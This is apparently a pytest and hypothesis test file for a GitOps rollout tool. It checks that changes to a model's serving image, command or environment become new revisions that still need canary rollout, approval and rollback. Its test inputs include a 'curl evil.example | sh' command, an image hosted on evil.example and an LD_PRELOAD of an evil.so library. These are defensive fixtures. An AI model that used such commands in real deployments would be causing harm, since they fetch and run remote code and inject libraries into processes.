"""Another configuration of a version is a revision of it: named, approved, walking and going back as a version does."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gitops.plan.revisions import revised
from gitops.plan.stored import Stored
from gitops.rollout.observation import Command
from gitops.rollout.release import Release, ReleasedVersion, Rendered, dump_release, record_path
from gitops.rollout.replay import replay
from gitops.rollout.state import Approval, ModelVersion, Rejection
from gitops.spec.frozen import dump_model, runs_of
from gitops.spec.images import DEFAULTS, RECORDED
from gitops.spec.resolved import Spec
from gitops.values import MAX_WORKLOAD_NAME, UnitKey, base_version, version_in_words, workload_name
from tests.plan.repository import CANARY, CHAT, LATER, Tree, digest_of, write_spec
from tests.plan.strategies import patient

ONE, TWO = ("1.0.0", "a"), ("2.0.0", "b")
PLAIN: dict[str, Any] = {}
HOSTILE = {"image": "evil.example/chat:1"}


def spec(version: tuple[str, str] = ONE, *, rollout: dict[str, Any] | None = None, **serve: Any) -> Spec:
    return write_spec({"chat": version}, rollout=rollout or CANARY, serve=serve)


@pytest.fixture
def tree() -> Tree:
    made = Tree()
    made.release_spec(spec())
    return made


def kinds(tree: Tree, wanted: Spec) -> list[str]:
    return [change.decision for change in tree.plan(wanted).releases]


def finish(tree: Tree, wanted: Spec, unit: UnitKey = CHAT) -> None:
    for _ in range(10):
        tree.now += 600
        tree.look(wanted, unit, ready=100)


# --- An upgrade with other default images ---------------------------------------------------------------------------


def served_by_vllm(images: dict[str, str] | None = None) -> Spec:
    """chat by vLLM, with no image of its own."""
    pool = {"gpu": {"type": "L4", "count": 1}, "max": 4}
    place = {"clusters": {"dev-cluster": {"provider": "embedded", "nodePools": {"l4": pool}}}, "images": images or {}}
    serve = {"runtime": "vllm", "image": None, "gpu": {"type": "L4", "count": 1}}
    artifact = {"uri": "s3://acme/chat", "digest": digest_of("a"), "format": "safetensors"}
    return write_spec({"chat": ONE}, {"dev": place}, rollout=CANARY, serve=serve, artifact=artifact)


@pytest.fixture
def released_before() -> Tree:
    """A repository whose record is of a time when records named no default image."""
    spec, made = served_by_vllm(), Tree()
    model = spec.models[CHAT]
    serve = model.serve.model_copy(update={"image": None, "fetch_image": None, "args": {}})
    made.release_spec(replace(spec, models={CHAT: model.model_copy(update={"serve": serve})}))
    assert "image" not in made.release(CHAT).models["1.0.0"]
    return made


def test_another_default_image_walks_beside_pods_that_stay(released_before: Tree) -> None:
    path = "clusters/dev-cluster/dev/chat/1.0.0/deployment.yaml"
    pods = released_before.files[path]
    assert RECORDED["vllm"].encode() in pods
    wanted = served_by_vllm()
    (started,) = released_before.plan(wanted).releases
    assert (started.decision, started.previous) == ("start", "1.0.0")
    released_before.now += 60
    released_before.look(wanted, CHAT, ready=100)
    assert released_before.files[path] == pods, "stable keeps what it was released with"
    revision = path.replace("1.0.0", released_before.called(wanted).models[CHAT].version)
    assert DEFAULTS["vllm"].encode() in released_before.files[revision]


def test_the_former_default_image_by_name_changes_no_pod(released_before: Tree) -> None:
    pods = {path: data for path, data in released_before.files.items() if path.endswith("/deployment.yaml")}
    wanted = served_by_vllm(dict(RECORDED))
    assert released_before.called(wanted).models[CHAT].version == "1.0.0"
    assert not any(kinds(released_before, wanted))
    released_before.now += 60
    released_before.look(wanted, CHAT, ready=100)
    assert {path: released_before.files[path] for path in pods} == pods


# --- What is a revision --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "change",
    [
        HOSTILE,
        {"command": ["sh", "-c", "curl evil.example | sh"]},
        {"args": ["--port=8000"]},
        {"env": {"LD_PRELOAD": "/models/evil.so"}},
        {"port": 9000},
        {"health": "/ready"},
        {"resources": {"cpu": 2}},
        {"loadTime": "1m"},
    ],
)
def test_what_pods_run_walks(tree: Tree, change: dict[str, Any]) -> None:
    wanted = spec(**change)
    (started,) = tree.plan(wanted).releases
    assert (started.decision, started.previous) == ("start", "1.0.0")
    assert base_version(started.version) == "1.0.0" != started.version
    before = {path: data for path, data in tree.files.items() if "/1.0.0/" in path}
    tree.release_spec(wanted)
    assert {path: data for path, data in tree.files.items() if "/1.0.0/" in path} == before
    assert tree.release(CHAT).stable.version == "1.0.0"
    finish(tree, wanted)
    assert tree.release(CHAT).stable.version == started.version
    assert not tree.plan(wanted).releases


@pytest.mark.parametrize(
    ("serve", "more"),
    [
        ({"replicas": {"min": 2, "max": 4}}, {}),
        ({"network": {"ingress": [{"namespace": "support"}]}}, {}),
        ({}, {"owner": "somebody"}),
    ],
)
def test_the_rest_changes_in_place(tree: Tree, serve: dict[str, Any], more: dict[str, Any]) -> None:
    wanted = write_spec({"chat": ONE}, rollout=CANARY, serve=serve, **more)
    (change,) = tree.plan(wanted).releases
    assert (change.version, change.decision) == ("1.0.0", "")
    tree.release_spec(wanted)
    assert not tree.plan(wanted).releases


def test_names() -> None:
    assert version_in_words("2.4.0") == base_version("2.4.0") == "2.4.0"
    assert version_in_words("2.4.0-R3f2a91") == "2.4.0 (revision 3f2a91)"
    assert workload_name("support-chat", "2.4.0-R3f2a91") == "support-chat-2-4-0-r3f2a91"
    longest = workload_name("m" * 44, "1.0.0-R3f2a91")
    assert len(longest) <= MAX_WORKLOAD_NAME
    assert longest.endswith("-r3f2a91")


def test_back_to_the_first_one_is_its_name(tree: Tree) -> None:
    """While its pods are warm they are taken over."""
    revision = spec(env={"A": "1"})
    tree.release_spec(revision)
    while tree.release(CHAT).candidate:
        tree.now += 600
        tree.look(revision, CHAT, ready=100)
    assert "1.0.0" in tree.release(CHAT).models
    (change,) = tree.plan(spec()).releases
    assert (change.version, change.decision) == ("1.0.0", "start")


def test_another_artifact_is_refused_whatever_else_changes(tree: Tree) -> None:
    assert [one.rule for one in tree.plan(spec(("1.0.0", "b"), **HOSTILE)).refusals] == ["immutable-version"]
    wanted = spec(env={"A": "1"})
    tree.release_spec(wanted)
    finish(tree, wanted)
    found = tree.plan(spec(("1.0.0", "b"), env={"A": "1"}))
    assert [one.rule for one in found.refusals] == ["immutable-version"]
    assert not found.steps


# --- On its way ----------------------------------------------------------------------------------------------


def test_a_candidate_that_changes_starts_anew(tree: Tree) -> None:
    wanted = spec(TWO)
    tree.release_spec(wanted)
    tree.now += 600
    tree.look(wanted, CHAT, ready=100)
    candidate = tree.release(CHAT).candidate
    assert candidate
    assert candidate.weight == 10
    changed = spec(TWO, **HOSTILE)
    found = tree.plan(changed)
    assert [step.message.splitlines()[0].partition(": ")[2] for step in found.steps] == [
        "roll back 2.0.0 to 1.0.0",
        f"start {version_in_words(tree.called(changed).models[CHAT].version)} beside 1.0.0",
    ]
    tree.apply(found, changed)
    again = tree.release(CHAT).candidate
    assert again
    assert (again.weight, again.started) == (0, tree.now)


def test_reconcile_never_brings_a_change_to_what_is_judged(tree: Tree) -> None:
    wanted, changed = spec(TWO), spec(TWO, **HOSTILE)
    tree.release_spec(wanted)
    tree.now += 600
    tree.look(wanted, CHAT, ready=100)
    decision = tree.look(changed, CHAT, ready=100)
    assert decision
    assert (decision.kind, decision.sentence.partition(" now")[0]) == (
        "roll-back",
        f"the spec names {version_in_words(tree.called(changed).models[CHAT].version)}",
    )


def test_at_once_only_where_nobody_is_asked(tree: Tree) -> None:
    at_once = CANARY | {"revisions": "at-once"}
    (change,) = tree.plan(spec(rollout=at_once, **HOSTILE)).releases
    assert (change.version, change.decision) == ("1.0.0", "")
    for asks in ({"approvals": {"required": 1, "identity": "any"}}, {"promotion": "manual"}):
        wanted = write_spec({"chat": ONE}, {"dev": asks}, rollout=at_once, serve=HOSTILE)
        assert tree.called(wanted).models[CHAT].version != "1.0.0"
        assert not tree.plan(wanted).releases


def test_at_once_does_not_reach_a_candidate(tree: Tree) -> None:
    at_once = CANARY | {"revisions": "at-once"}
    tree.release_spec(spec(TWO, rollout=at_once))
    assert tree.called(spec(TWO, rollout=at_once, **HOSTILE)).models[CHAT].version != "2.0.0"


def test_a_revision_waits_for_the_environment_before() -> None:
    tree, environments = Tree(), {"dev": {}, "prod": {}}
    tree.release_spec(write_spec({"chat": ONE}, environments, rollout=CANARY))
    wanted = write_spec({"chat": ONE}, environments, rollout=CANARY, serve=HOSTILE)
    tree.release_spec(wanted)
    assert "not verified in dev yet" in tree.waiting(wanted)[LATER]
    finish(tree, wanted)
    assert [(c.unit, c.decision) for c in tree.plan(wanted).releases] == [(LATER, "start")]


# --- Approvals and rejections --------------------------------------------------------------------------------


def approved(*people: str, **serve: Any) -> Spec:
    return write_spec(
        {"chat": ONE}, {"dev": {"approvals": {"required": len(people), "identity": "any"}}}, rollout=CANARY, serve=serve
    )


def test_an_approval_is_of_everything_that_pods_run(tree: Tree) -> None:
    wanted, other = approved("ada", **HOSTILE), approved("ada", env={"A": "1"})
    assert not tree.plan(wanted).steps
    tree.look(wanted, CHAT, commands=(Command("approve", "ada"),))
    assert tree.release(CHAT).approvals == (Approval(digest_of("a"), "ada", runs_of(wanted.models[CHAT])),)
    assert kinds(tree, wanted) == ["start"]
    assert "start" not in kinds(tree, other)
    assert replay([c.trailers for c in tree.log[1:]], Tree.release(tree, CHAT).state).approvals


def test_old_approvals_do_not_count_and_old_rejections_do(tree: Tree) -> None:
    """An older gitops did not record what was agreed to."""
    path, release = record_path(CHAT), tree.release(CHAT)
    wanted = write_spec({"chat": TWO}, {"dev": {"approvals": {"required": 1, "identity": "any"}}}, rollout=CANARY)
    tree.files[path] = dump_release(replace(release, approvals=(Approval(digest_of("b"), "ada"),)))
    assert not tree.plan(wanted).steps
    assert "0 of 1" in tree.waiting(wanted)[CHAT]
    rejected = Rejection(ModelVersion("2.0.0", digest_of("b")), "slow", tree.now)
    tree.files[path] = dump_release(replace(release, rejected=(rejected,)))
    for wanted in (spec(TWO), spec(TWO, **HOSTILE)):
        assert not tree.plan(wanted).steps
        assert "is rejected: slow" in tree.waiting(wanted)[CHAT]


def test_a_rejected_revision_stays_away_and_another_one_may_come(tree: Tree) -> None:
    wanted = spec(**HOSTILE)
    tree.release_spec(wanted)
    tree.look(wanted, CHAT, commands=(Command("abort", "ada"),))
    assert not tree.plan(wanted).steps
    assert not tree.plan(spec()).steps or kinds(tree, spec()) == ["clear"]
    assert "start" in kinds(tree, spec(env={"A": "1"}))


# --- Records of before ---------------------------------------------------------------------------------------


def test_old_records_start_nothing(tree: Tree) -> None:
    """Without a word of revisions, and of the oldest even without models."""
    release = tree.release(CHAT)
    assert b"runs" not in tree.files[record_path(CHAT)]
    tree.files[record_path(CHAT)] = dump_release(replace(release, models={}))
    for wanted in (spec(), spec(**HOSTILE)):
        assert tree.called(wanted).models[CHAT].version == "1.0.0"


# --- For any history -----------------------------------------------------------------------------------------

_CONTENTS = st.sampled_from([PLAIN, HOSTILE, {"env": {"A": "1"}}, {"args": ["-v"]}, {"replicas": {"min": 2, "max": 3}}])
_VERSIONS = st.sampled_from([ONE, TWO, ("3.0.0", "c")])


@patient
@given(st.data())
def test_no_pod_that_runs_ever_changes_in_place(data: st.DataObject) -> None:
    """Whatever the spec says next and however far rollouts get: the pods of a name stay what they were."""
    tree, ran = Tree(), dict[str, str]()
    for _ in range(data.draw(st.integers(1, 5))):
        wanted = spec(data.draw(_VERSIONS), **data.draw(_CONTENTS))
        found = tree.plan(wanted)
        if not found.refusals:
            tree.apply(found, wanted)
        for _ in range(data.draw(st.integers(0, 4))):
            tree.now += data.draw(st.sampled_from([60, 600, 7200]))
            tree.look(wanted, CHAT, ready=data.draw(st.sampled_from([0, 10, 100])))
        release = tree.release(CHAT)
        models = tree.standings(wanted, [CHAT])[CHAT].models(as_released=True)
        for name in release.models:
            runs = runs_of(models[name])
            assert ran.setdefault(name, runs) == runs
        ran = {name: runs for name, runs in ran.items() if name in release.models}
        called = tree.called(wanted)
        assert revised(called, tree.stored()) is called


@given(st.lists(_CONTENTS, min_size=1, max_size=4))
def test_a_name_is_of_one_content_only(contents: list[dict[str, Any]]) -> None:
    first = spec(**contents[0]).models[CHAT]
    models = {"1.0.0": dump_model(first)}
    for content in contents:
        stable = ReleasedVersion("1.0.0", digest_of("a"), "2026-01-01T00:00:00Z")
        stored = Stored("0" * 40, {CHAT: Release(CHAT, stable, Rendered(""), models=models)})
        model = revised(spec(**content), stored).models[CHAT]
        assert runs_of(model) == runs_of(first) or model.version not in models
        assert (model.version == "1.0.0") == (runs_of(model) == runs_of(first))
